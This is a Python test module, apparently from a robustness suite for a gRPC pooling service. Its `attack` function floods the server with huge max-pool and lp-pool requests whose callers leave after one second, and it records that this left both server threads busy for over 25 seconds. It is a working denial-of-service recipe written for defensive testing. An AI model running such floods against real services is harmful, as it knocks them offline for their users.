"""Requests of a megabyte with long work, whose callers leave early: windows of 500 by 500 at every position.

Two of them held both threads of a server for more than 25 seconds, and the work went on after their callers had left.
"""

import itertools
from functools import cache
from typing import Any

from poolservice.v1 import pool_pb2 as pb
from repeated_calls import repeat_calls
from target import Target

FLAGS: tuple[str, ...] = ()
BEFORE = (
    "both threads busy for more than 25 s, 22 s of them after the callers left; the server does not stop within 60 s"
)

_SIZE = 1000
_CALLERS = 8
_PATIENCE_SECONDS = 1.0


async def attack(target: Target, seconds: float) -> str:
    """Keep more of them in flight than there are threads, and leave after a second."""
    numbers = itertools.count()

    async def call(stub: Any, caller: int) -> pb.PoolResponse:
        # lp_pool has no shortcut for large windows; the size differs so that no two callers share a batch.
        request = _max_pool(500 + caller) if next(numbers) % 2 else _lp_pool(300 + caller)
        response: pb.PoolResponse = await stub.Pool(request, timeout=_PATIENCE_SECONDS)
        return response

    return await repeat_calls(target, seconds, call, callers=_CALLERS)


@cache
def _max_pool(kernel: int) -> pb.PoolRequest:
    return _request(pb.PoolSpec(spatial_dims=2, max_pool=pb.MaxPool(kernel_size=[kernel], stride=[1])))


@cache
def _lp_pool(kernel: int) -> pb.PoolRequest:
    return _request(pb.PoolSpec(spatial_dims=2, lp_pool=pb.LpPool(norm_type=1.5, kernel_size=[kernel], stride=[1])))


def _request(spec: pb.PoolSpec) -> pb.PoolRequest:
    tensor = pb.Tensor(dtype=pb.DATA_TYPE_UINT8, shape=[1, _SIZE, _SIZE], data=bytes(_SIZE * _SIZE))
    return pb.PoolRequest(specs=[spec], tensor=tensor)
